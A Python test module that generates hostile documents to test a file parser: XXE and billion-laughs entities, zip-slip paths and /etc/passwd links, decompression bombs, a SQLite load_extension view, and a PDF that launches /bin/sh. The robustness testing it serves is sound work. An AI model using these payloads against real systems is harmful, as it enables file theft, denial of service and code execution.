"""Documents made to harm, by hand: each by a name, written to a folder.

Sizes are such that a reader who falls for one takes minutes or gigabytes, and one who does not
takes moments. `PORT` stands where an address is to be fetched.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import sqlite3
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

from tests.formats import test_docx, test_odf, test_ofd, test_parquet, test_pptx
from tests.formats.pdf import making
from tests.formats.workbooks import compound, unzipped, xlsx, zipped

SECRET = "13911112222"
"""Stands in a file that no document may reach."""
ADDRESS = "http://127.0.0.1:9/x"
LAUGHS = "<!DOCTYPE a [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n + 1} '{f'&a{n};' * 10}'>" for n in range(12)
)

Attack = Callable[[str], dict[str, bytes]]
"""Given the address of the secret file, returns files by name."""


def xxe(secret: str) -> dict[str, bytes]:
    """External entities, external parts and remote pictures wherever there is XML."""
    heads = {
        "laughs": LAUGHS + "]>", "entity": f'<!DOCTYPE a [<!ENTITY a12 SYSTEM "{secret}">]>',
        "parameter": f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{ADDRESS}"> %p;]>',
        "remote": f'<!DOCTYPE a SYSTEM "{ADDRESS}">',
    }  # fmt: skip
    found = {}
    for name, head in heads.items():
        found[f"{name}.xml"] = f'<?xml version="1.0"?>{head}<a>&a12;</a>'.encode()
        found[f"{name}.svg"] = f"{head}<svg><text>&a12;</text></svg>".encode()
        for ending, data, part in (
            ("docx", test_docx.full(), "word/document.xml"),
            ("pptx", test_pptx.full(), "ppt/slides/slide1.xml"),
            ("xlsx", xlsx({"A1": "mark"}), "xl/worksheets/sheet1.xml"),
            ("odt", test_odf.odt(), "content.xml"), ("ofd", test_ofd.ofd(), "OFD.xml"),
        ):  # fmt: skip
            parts = unzipped(data)
            begun, mark, root = parts[part].rpartition(b"?>")
            parts[part] = begun + mark + head.encode() + root.replace(b">", b">&a12;", 2)
            found[f"{name}.{ending}"] = zipped(parts)
    parts = unzipped(test_docx.full())
    rels = "word/_rels/document.xml.rels"
    if rels in parts:
        link = f'<Relationship Id="x" TargetMode="External" Target="{ADDRESS}" Type="a/image"/></Relationships>'
        far = f'<Relationship Id="y" Target="{secret}" Type="a/image"/>' + link
        parts[rels] = parts[rels].replace(b"</Relationships>", far.encode())
        found["external.docx"] = zipped(parts)
    found["remote.html"] = (
        f'<html><base href="{ADDRESS}"><link rel=stylesheet href="{ADDRESS}"><img src="{secret}">'
        f'<script src="{ADDRESS}"></script><iframe src="{secret}"></iframe></html>'
    ).encode()
    return found


def slips(secret: str) -> dict[str, bytes]:
    """Members that lead outside, links, devices, names with signs that mean something."""
    names = ("../../evil.txt", "/tmp/evil.txt", "C:\\evil.txt", "..\\..\\evil.txt", "a/../../evil", "\0evil", "evil\n.txt", ".", "..", "")  # fmt: skip
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name or "x"), f"电话{SECRET[::-1]}".encode())
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, secret.removeprefix("file://"))
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as held:
        for name in names:
            info = tarfile.TarInfo(name or "x")
            info.size = 3
            held.addfile(info, io.BytesIO(b"abc"))
        for kind, target in (
            (tarfile.SYMTYPE, secret.removeprefix("file://")),
            (tarfile.LNKTYPE, "/etc/passwd"), (tarfile.CHRTYPE, ""), (tarfile.FIFOTYPE, ""),
        ):  # fmt: skip
            info = tarfile.TarInfo("odd")
            info.type, info.linkname = kind, target
            held.addfile(info)
    parts = unzipped(test_ofd.ofd())
    outside = {
        name: data.replace(b"Doc_0/", b"../../../../../../etc/").replace(
            b'BaseLoc="', b'BaseLoc="../../../../../../../etc/passwd" Old="'
        )
        for name, data in parts.items()
    }
    rooted = {
        name: data.replace(b">Doc_0", f">{secret.removeprefix('file://')}".encode())
        for name, data in parts.items()
    }
    return {
        "slip.zip": out.getvalue(), "slip.tar": tar.getvalue(),
        "slip.ofd": zipped(outside), "rooted.ofd": zipped(rooted),
    }  # fmt: skip


def bombs(_secret: str) -> dict[str, bytes]:
    """What unpacks to far more than it is, or says so falsely."""
    packer = zlib.compressobj(9, wbits=31)
    piece = bytes(1 << 20)
    gz = b"".join(packer.compress(piece) for _ in range(256)) + packer.flush()
    member = zlib.compress(b"\0" * (8 << 20), 9)[2:-4]
    overlapped = _overlapped(member, 8 << 20, 2000)
    lies = bytearray(zipped({"a.txt": b"138" * 200_000}))
    at = lies.index(b"PK\x01\x02")
    lies[at + 24 : at + 28] = struct.pack("<I", 10)
    lies[22:26] = struct.pack("<I", 10)
    wide = bytearray(zipped({"a.txt": b"138"}))
    at = wide.index(b"PK\x05\x06")
    wide[at + 8 : at + 12] = b"\xff\xff\xff\xff"
    return {
        "bomb.gz": gz, "bomb.csv.gz": gz, "overlap.zip": overlapped, "lies.zip": bytes(lies),
        "wide.zip": bytes(wide), "twice.gz": gzip.compress(gz),
        "text.png": _png(8, 8, _chunk(b"zTXt", b"a\0\0" + zlib.compress(b" " * (32 << 20), 9))),
        "itxt.png": _png(8, 8, _chunk(b"iTXt", b"a\0\1\0\0\0" + zlib.compress(b" " * (32 << 20), 9))),
        "icc.png": _png(8, 8, _chunk(b"iCCP", b"a\0\0" + zlib.compress(b" " * (32 << 20), 9))),
    }  # fmt: skip


def _overlapped(member: bytes, size: int, count: int) -> bytes:
    """Return a zip in which so many members are the same bytes."""
    name = b"a.txt"
    local = struct.pack(
        "<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(member), size, len(name), 0
    )
    central = b""
    for number in range(count):
        own = f"{number:05}".encode()
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(member),
                               size, len(own), 0, 0, 0, 0, 0, 0) + own  # fmt: skip
    held = local + name + member
    return (
        held
        + central
        + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(central), len(held), 0)
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(wide: int, high: int, more: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", wide, high, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0" * (min(wide, 64) + 1) * min(high, 64))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + more
        + _chunk(b"IDAT", pixels)
        + _chunk(b"IEND", b"")
    )


def pictures(_secret: str) -> dict[str, bytes]:
    """Pictures that say they are huge, and directories that lead back into themselves."""
    entry = struct.pack("<HHII", 256, 4, 1, 100_000) + struct.pack("<HHII", 257, 4, 1, 100_000)
    entry += struct.pack("<HHII", 273, 4, 0xFFFFFF, 8) + struct.pack("<HHII", 259, 3, 1, 1)
    loop = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 4) + entry + struct.pack("<I", 8)
    small = struct.pack("<HHII", 256, 4, 1, 16) + struct.pack("<HHII", 257, 4, 1, 16)
    small += struct.pack("<HHII", 273, 4, 1, 100) + struct.pack("<HHII", 279, 4, 1, 256)
    small += struct.pack("<HHII", 258, 3, 1, 8) + struct.pack("<HHII", 262, 3, 1, 1)
    small += struct.pack("<HHII", 278, 4, 1, 16)
    circle = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 7) + small + struct.pack("<I", 8)
    bmp = (
        b"BM"
        + struct.pack("<IHHI", 60, 0, 0, 54)
        + struct.pack("<IiiHHIIiiII", 40, 100_000, -(1 << 31), 1, 24, 0, 0, 0, 0, 0, 0)
    )
    jpeg = b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\3\1\x11\0\2\x11\1\3\x11\1\xff\xda\0\x0c\3\1\0\2\x11\3\x11\0\x3f\0\xff\xd9"
    gif = b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\2\2D\1\0;"
    webp = b"RIFF\x24\0\0\0WEBPVP8L\x0a\0\0\0/\xff\xff\xff\x0f" + bytes(12)
    return {
        "huge.png": _png(60_000, 60_000), "loop.tiff": loop, "circle.tiff": circle + bytes(400),
        "huge.bmp": bmp, "huge.jpg": jpeg, "huge.gif": gif, "huge.webp": webp,
    }  # fmt: skip


def deep(_secret: str) -> dict[str, bytes]:
    """What lies in itself thousands of times."""
    many = 20_000
    mail = b"".join(
        f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n".encode() for n in range(4000)
    )
    letters = b"Content-Type: message/rfc822\n\n" * 4000 + b"Subject: a\n\n13800138000\n"
    flat = b"Content-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\na\n" * 20_000 + b"--b--\n"
    named = "".join(f" filename*{n}*=%41;" for n in range(10_000))
    spread = f"Content-Disposition: attachment;{named}\n\nx".encode()
    table = "<w:tbl><w:tr><w:tc>" * 4000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 4000
    parts = unzipped(test_docx.full())
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:body>", b"<w:body>" + table.encode()
    )
    return {
        "deep.json": b"[" * many * 4 + b"]" * many * 4,
        "keys.json": b'{"a":' * many * 4 + b"1" + b"}" * many * 4,
        "number.json": b'{"a": ' + b"9" * 1_000_000 + b', "b": 1e999999999}',
        "deep.xml": b"<a>" * many * 4 + b"</a>" * many * 4,
        "deep.html": b"<div><table><tr><td>" * many + b"13800138000",
        "attributes.html": b"<p " + b"a=b " * 100_000 + b">",
        "open.html": b"<" * 100_000,
        "deep.rtf": b"{\\rtf1" + b"{" * many * 4 + b"}" * many * 4 + b"}",
        "bin.rtf": b"{\\rtf1 \\bin4294967295 x}" + b"\\'" * 100_000,
        "deep.eml": mail,
        "letters.eml": letters,
        "flat.eml": flat,
        "spread.eml": spread,
        "header.eml": b"Subject: " + b"=?utf-8?b?5byg?= " * 50_000 + b"\n\nx",
        "deep.docx": zipped(parts),
        "deep.sql": b"INSERT INTO t VALUES " + b"(" * 100_000,
        "quote.csv": b'a,"' + b"13800138000," * 20_000,
        "froms.mbox": b"From a@b Tue Mar  5 20:11:33 2024\n" * 20_000,
        "wide.csv": b"," * 200_000 + b"\n" + b"1," * 30_000,
    }


def sheets(_secret: str) -> dict[str, bytes]:
    """Sheets that say that they are as large as can be, and point where nothing is."""
    parts = unzipped(xlsx({"A1": "mark", "XFD1048576": "end"}))
    name = "xl/worksheets/sheet1.xml"
    rows = "".join(
        f'<row r="{n}"><c r="XFD{n}" t="s"><v>4294967295</v></c></row>' for n in range(1, 3000)
    )
    odd = '<row r="99999999999999999999"><c r="ZZZZZZZ99999999999" t="s"><v>-1</v></c></row>'
    wide = parts[name].replace(b"<sheetData>", f"<sheetData>{rows}".encode())
    odd_part = parts[name].replace(b"</sheetData>", f"{odd}</sheetData>".encode())
    merged = parts[name].replace(
        b"</sheetData>",
        b"</sheetData><mergeCells>" + b'<mergeCell ref="A1:XFD1048576"/>' * 2000 + b"</mergeCells>",
    )
    content = unzipped(test_odf.sheet(test_odf.row(test_odf.cell("13800138000"))))
    repeated = (
        content["content.xml"]
        .replace(b"<table:table-row", b'<table:table-row table:number-rows-repeated="1048576"')
        .replace(b"<table:table-cell", b'<table:table-cell table:number-columns-repeated="16384"')
    )
    return {
        "wide.xlsx": zipped({**parts, name: wide}), "odd.xlsx": zipped({**parts, name: odd_part}),
        "merged.xlsx": zipped({**parts, name: merged}),
        "repeated.ods": zipped({**content, "content.xml": repeated}),
        "loop.xls": _looped(), "cut.xlsx": zipped(parts)[:-40],
    }  # fmt: skip


def _looped() -> bytes:
    """Return a compound file whose table of sectors leads in a circle."""
    held = bytearray(compound({"Workbook": b"\x09\x08\x10\0" + bytes(5000), "x": b"y" * 5000}))
    for at in range(512, min(len(held), 1024), 4):
        held[at : at + 4] = struct.pack("<I", 1)
    return bytes(held)


def databases(_secret: str) -> dict[str, bytes]:
    """Databases with broken pages, endless views, and headers that lie; tables with odd footers."""
    base = sqlite3.connect(":memory:")
    base.executescript(
        "CREATE TABLE t (a TEXT); INSERT INTO t VALUES ('13800138000');"
        "CREATE VIEW v AS WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT n FROM r;"
        "CREATE VIEW w AS SELECT load_extension('/tmp/evil.so') FROM t;"
        "CREATE TABLE g (a TEXT);"
        "CREATE TRIGGER z AFTER INSERT ON t BEGIN INSERT INTO t SELECT a FROM t; END;"
    )
    for number in range(200):
        base.execute("INSERT INTO g (a) VALUES (?)", (f"138{number:08}",))
    base.execute("ALTER TABLE g ADD COLUMN b TEXT AS (hex(zeroblob(100000000))) VIRTUAL")
    base.commit()
    sound = base.serialize()
    base.close()
    broken = bytearray(sound)
    for at in range(4096 * 2, len(broken), 4096):
        broken[at : at + 100] = b"\xff" * 100
    lying = bytearray(sound)
    lying[28:32] = b"\xff\xff\xff\xff"
    loop = bytearray(sound)
    loop[100 + 8 : 100 + 12] = b"\0\0\0\1"
    sheet = test_parquet.full()
    footers = {
        f"footer{n}.parquet": sheet[:-8] + struct.pack("<I", size) + b"PAR1"
        for n, size in enumerate((0, 1, 0x7FFFFFFF, 0xFFFFFFFF, len(sheet) - 8))
    }
    noise = sheet[: len(sheet) // 2] + b"\xff" * (len(sheet) // 2 - 8) + sheet[-8:]
    return {
        "views.db": sound, "broken.db": bytes(broken), "lying.db": bytes(lying),
        "loop.db": bytes(loop), "cut.db": sound[: len(sound) // 2], "noise.parquet": noise, **footers,
    }  # fmt: skip


def pdfs(secret: str) -> dict[str, bytes]:
    """PDF with trees, lists and pages that have no end, locked ones, and ones that want to act."""
    import pikepdf
    from pikepdf import Array, Dictionary, Name, String

    catalog, page = (
        b"<</Type /Catalog /Pages 2 0 R>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>>",
    )
    cyclic = making.by_hand([catalog, b"<</Type /Pages /Kids [2 0 R 3 0 R] /Count 99>>", page])
    counted = making.by_hand([catalog, b"<</Type /Pages /Kids [3 0 R] /Count 999999999>>", page])
    shared = making.by_hand([catalog, b"<</Type /Pages /Kids [" + b"3 0 R " * 3000 + b"]>>", page])
    text = making.simple(making.text("13800138000"))
    numbers = text.replace(b"%%EOF", b"4294967295 65535 obj <<>> endobj\n%%EOF")
    looped = text.replace(b"trailer\n<<", b"trailer\n<</Prev 9 ").replace(
        b"trailer <<", b"trailer <</Prev 9 "
    )
    vast = making.simple(b"0 0 m 9 9 l S " * 500).replace(b"595 842", b"9999999 9999999")
    saved = making.simple(b"q " * 300_000 + making.text("13800138000"))
    acting = making.Making(making.text("13800138000"))
    pdf = acting.pdf
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("/bin/sh"))
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.URI, URI=String(ADDRESS)))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), Dictionary(S=Name.JavaScript, JS=String("app.launchURL('" + ADDRESS + "')"))]))
    )  # fmt: skip
    far = pdf.make_stream(b"")
    far.F = Dictionary(Type=Name.Filespec, F=String(secret), FS=Name.URL)
    far.FFilter = Name.FlateDecode
    pdf.Root.Far = pdf.make_indirect(far)
    huge = making.Making(b"q 500 0 0 500 0 0 cm /I Do Q")
    image = huge.pdf.make_stream(b"x", Type=Name.XObject, Subtype=Name.Image, Width=100_000, Height=100_000,
                                 BitsPerComponent=8, ColorSpace=Name.DeviceRGB)  # fmt: skip
    garbage = huge.pdf.make_stream(b"\xff" * 99, Type=Name.XObject, Subtype=Name.Image, Width=500, Height=500,
                                   BitsPerComponent=1, ColorSpace=Name.DeviceGray)  # fmt: skip
    garbage.Filter = Name.JBIG2Decode
    huge.pdf.pages[0].obj.Resources.XObject = Dictionary(I=image, J=garbage)
    locked = io.BytesIO()
    with pikepdf.open(io.BytesIO(text)) as held:
        held.save(locked, encryption=pikepdf.Encryption(user="x", owner="y"))
    return {
        "cyclic.pdf": cyclic, "counted.pdf": counted, "shared.pdf": shared, "numbers.pdf": numbers,
        "looped.pdf": looped, "vast.pdf": vast, "saved.pdf": saved, "acting.pdf": acting.data(),
        "huge.pdf": huge.data(), "locked.pdf": locked.getvalue(), "cut.pdf": text[: len(text) // 2],
    }  # fmt: skip


def others(_secret: str) -> dict[str, bytes]:
    """Packed again and again, cut, of no kind."""
    data = b"13800138000"
    for _ in range(30):
        data = gzip.compress(data)
    encoded = b"13800138000"
    for _ in range(40):
        encoded = base64.b64encode(encoded)
    nested = json.dumps({"a": "x"})
    for _ in range(12):
        nested = json.dumps({"a": nested})
    return {
        "again.gz": data, "again.txt": encoded[:300_000], "again.json": nested.encode()[:300_000],
        "zeros.bin": bytes(1_000_000), "zeros.txt": bytes(500_000), "marks.txt": b"\xef\xbb\xbf" * 100_000,
        "half.txt": "\ud83d".encode("utf-16-le", "surrogatepass") * 100_000, "line.txt": b"1" * 500_000,
        "labels.txt": "姓名：".encode() * 50_000, "cut.docx": test_docx.full()[:2000],
        "cut.ofd": test_ofd.ofd()[:-30], "cut.parquet": test_parquet.full()[:-3],
    }  # fmt: skip


ATTACKS: tuple[Attack, ...] = (xxe, slips, bombs, pictures, deep, sheets, databases, pdfs, others)


def written(folder: Path, secret: str) -> Iterator[str]:
    """Write all attacks to a folder; yield their names."""
    for attack in ATTACKS:
        for name, data in attack(secret).items():
            path = folder / f"{attack.__name__}-{name}"
            path.write_bytes(data)
            yield path.name
